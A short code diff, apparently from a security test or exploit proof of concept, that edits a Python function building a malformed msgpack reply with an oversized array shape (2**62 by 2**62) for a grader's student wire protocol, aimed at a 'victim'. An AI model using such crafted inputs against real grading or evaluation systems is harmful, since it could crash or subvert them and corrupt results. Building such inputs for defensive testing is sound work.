@@ -8,9 +8,10 @@ import sys
 
 
 def f(secret, port, victim):
+    packing = sys.modules["grader.student.packing"]
     wire = sys.modules["grader.student.wire"]
     encode = sys.modules["msgspec"].msgpack.encode
-    array = wire.Array("float64", (2**62, 2**62, 0), b"")
+    array = packing.Array("float64", (2**62, 2**62, 0), b"")
     value = wire.Returned(value=array)
     reply = encode(wire.TestReply(task=0, test=0, cases=(wire.CaseReply(result=value),)))
     data = struct.pack(">cI", b"T", len(reply)) + reply
